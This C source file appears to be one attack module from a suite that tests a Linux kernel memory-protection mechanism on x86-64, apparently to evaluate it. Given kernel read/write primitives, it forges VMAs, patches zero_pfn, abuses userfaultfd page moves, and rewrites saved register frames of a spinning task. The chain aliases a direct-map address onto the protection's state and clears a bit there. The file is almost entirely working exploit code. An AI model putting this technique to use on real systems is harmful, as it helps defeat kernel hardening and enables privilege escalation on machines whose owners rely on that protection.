// SPDX-License-Identifier: GPL-2.0-only
/*
 * Whether a place may be written by a section is asked of the frame that its address in
 * the direct map names. Here that address of an ordinary page leads to state of the
 * protection, by an entry with the key of that, as the kernel may have. The accessed bit
 * is cleared there.
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "chunk.h"
#include "direct_map.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define SPARE_PART	0x55
#define TABLES_PART	0x56
#define OWN_PART	0x5a
#define TABLES		1500
#define HELPER_CPU	1
#define LATER		400000	/* microseconds */
#define WAITS		"queued_spin_lock_slowpath"
#define WAITS_LENGTH	0x300
#define TABLE_LOCK	40
#define FRAME_R15	0
#define KEY_OF_STATE	(1UL << 59)

static struct {
	volatile bool ready;
	volatile unsigned int asked, done;
	volatile uint64_t lock, place;
} *shared;

static pid_t child;

/* ---- who clears accessed bits ---- */

static void clear_refs_for_ever(void)
{
	volatile char *own = mmap((void *)user_room(OWN_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	int fd = open("/proc/self/clear_refs", O_WRONLY);
	const struct itimerval once = { { 0, 0 }, { 0, LATER } };
	struct slot slot;

	stay_on_cpu(HELPER_CPU);
	heed_alarms();
	own[0] = 1;
	if (fd < 0 || kwalk((uint64_t)own, LEVEL_PTE, 0, &slot))
		_exit(1);
	shared->place = slot.slot;
	shared->lock = page_of(slot.slot) + TABLE_LOCK;
	shared->ready = true;
	for (;;) {
		usleep(1000);
		if (shared->done == shared->asked)
			continue;
		own[0] = 1;
		setitimer(ITIMER_REAL, &once, NULL);
		(void)!write(fd, "1", 1);
		shared->done++;
	}
}

static bool start_child(void)
{
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	child = fork();
	if (!child)
		clear_refs_for_ever();
	while (!shared->ready)
		if (waitpid(child, NULL, WNOHANG))
			return false;
	return true;
}

struct aim {
	uint64_t place, at;
	int changed;
	bool stays;
};

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct aim *aim = data;

	if (frame[FRAME_R15] != shared->place)
		return;
	kwrite64(at + FRAME_R15 * sizeof(*frame), aim->place);
	aim->at = at;
	aim->changed++;
}

/* The child waits for the lock of its table, and its timer for that of its signals. */
static int clear_at(uint64_t place)
{
	struct aim aim = { place, 0, 0, false };
	uint64_t lock, function = ksymbol(WAITS);
	struct task task;
	int i;

	if (!function || ktask(child, &task))
		return -1;
	lock = find_signal_lock(&task);
	if (!lock)
		return -2;
	set_lock(shared->lock, true);
	shared->asked++;
	usleep(LATER / 4);
	set_lock(lock, true);
	usleep(LATER * 2);
	find_frames(&task, function, WAITS_LENGTH, change_frame, &aim);
	usleep(LATER / 4);
	aim.stays = kread64(aim.at) == aim.place;
	set_lock(lock, false);
	usleep(LATER / 4);
	set_lock(shared->lock, false);
	for (i = 0; i < 200 && shared->done != shared->asked; i++)
		usleep(5000);
	return aim.stays ? aim.changed : -3;
}

/* ---- an address of the direct map, as direct_map.c has it ---- */

/* The direct map has nothing there any more. */
static bool empty_address(struct chunk *chunk, volatile char *spare, uint64_t entry, uint64_t mm)
{
	uint64_t at = direct_address(chunk), vma_spare = find_vma(spare), size, limit, old, vma;
	struct uffdio_move move = { .dst = (uint64_t)spare, .src = at, .len = PAGE_SIZE };
	bool done;

	size = find_task_size(mm);
	if (!vma_spare || !size)
		return false;
	count_twice(chunk);
	old = kread64(vma_spare + VMA_PROT);
	limit = kread64(size);
	kwrite64(vma_spare + VMA_PROT, PTE_KERNEL_RW);
	kwrite64(size, -PAGE_SIZE);
	vma = forge_vma(spare, at, kread64(vma_spare + VMA_PROT));
	kwrite64(entry, vma);
	done = vma && !ioctl(faults, UFFDIO_MOVE, &move);
	kwrite64(entry, 0);
	kwrite64(size, limit);
	kwrite64(vma_spare + VMA_PROT, old);
	return done;
}

/* A fault that reads maps the zero page there, whose number is the table's. */
static bool lead_address_to(const struct chunk *chunk, uint64_t phys, uint64_t entry)
{
	uint64_t at = direct_address(chunk), zero = ksymbol("zero_pfn"), old = kread64(zero), vma;
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)at, 1 };
	struct slot slot;

	vma = forge_vma(chunk->at, at, PTE_KERNEL_RW | KEY_OF_STATE);
	if (!zero || !vma)
		return false;
	kwrite64(entry, vma);
	kwrite64(zero, phys / PAGE_SIZE);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(zero, old);
	kwrite64(entry, 0);
	return !kwalk(at, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
}

/* ---- state ---- */

#define STATE	2
#define WORDS	512

/* It must look like an entry that is present, of one of the first pages. */
static bool is_usable(uint64_t seen)
{
	return (seen & PTE_PRESENT) && (seen & PTE_ACCESSED) && !(seen & 1 << 9) && seen >> 28 == 0;
}

static uint64_t find_in(uint64_t page)
{
	uint64_t words[WORDS];
	int i;

	if (kread(page, words, sizeof(words)))
		return 0;
	for (i = 0; i < WORDS; i++)
		if (is_usable(words[i]))
			return page + i * sizeof(*words);
	return 0;
}

static uint64_t find_word_of_state(void)
{
	static uint8_t frames[4096];
	uint64_t pfn, found = 0;

	for (pfn = 0; !found && pfn < 1UL << 18; pfn++) {
		if (pfn % sizeof(frames) == 0 && kread(frame_at(pfn), frames, sizeof(frames)))
			return 0;
		if (frames[pfn % sizeof(frames)] == STATE)
			found = find_in(direct_map_base() + pfn * PAGE_SIZE);
	}
	return found;
}

static bool split_direct_map(struct chunk *first, volatile char *base)
{
	struct slot slot;
	int i;

	use_up_blocks();
	munmap((void *)first->at, CHUNK_SIZE);
	if (put_on_free_list(first->page, CHUNK_ORDER))
		return false;
	for (i = 0; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (i % 16)
			continue;
		if (!kwalk(direct_map_base() + first->phys, LEAF, 0, &slot) &&
		    slot.level == LEVEL_PTE)
			return true;
	}
	return false;
}

enum outcome state_alias(void)
{
	volatile char *base, *spare;
	struct chunk chunk[2];
	struct task task;
	uint64_t entry, before, after, word;
	int changed;

	if (!is_protected())
		return user_pte();
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!start_child())
		return broken("no process that clears accessed bits");
	stay_on_cpu(0);
	base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	spare = map_small_pages(SPARE_PART, 2 * PMD_SIZE);
	if (!base || !spare || !find_chunks(chunk, 2))
		return broken("no pages in a row");
	*spare = 1;
	if (!open_faults(spare))
		return broken("no userfaultfd");
	if (!split_direct_map(&chunk[0], base))
		return broken("no entries of single pages in the direct map");
	corrupt_command("free");
	word = find_word_of_state();
	if (!word)
		return broken("no word of the state looks like an entry");
	before = kread64(word);
	if (ktask(0, &task))
		return broken("no task");
	entry = find_empty_entry(task.mm, direct_address(&chunk[1]));
	if (!entry)
		return broken("no room for a mapping");
	if (!empty_address(&chunk[1], spare + PAGE_SIZE, entry, task.mm))
		return lost("the address of the direct map is not empty");
	if (!lead_address_to(&chunk[1], (word & -PAGE_SIZE) - direct_map_base(), entry))
		return lost("the address of the direct map leads to no state");
	changed = clear_at(direct_address(&chunk[1]) + word % PAGE_SIZE);
	after = kread64(word);
	if (changed <= 0)
		return broken("nothing waited (%d)", changed);
	if (after == before)
		return lost("the word of the state is what it was, 0x%lx", after);
	return won("state of the protection at 0x%lx was 0x%lx, and is 0x%lx", word, before, after);
}
#else
enum outcome state_alias(void)
{
	return skipped("x86-64 only");
}
#endif
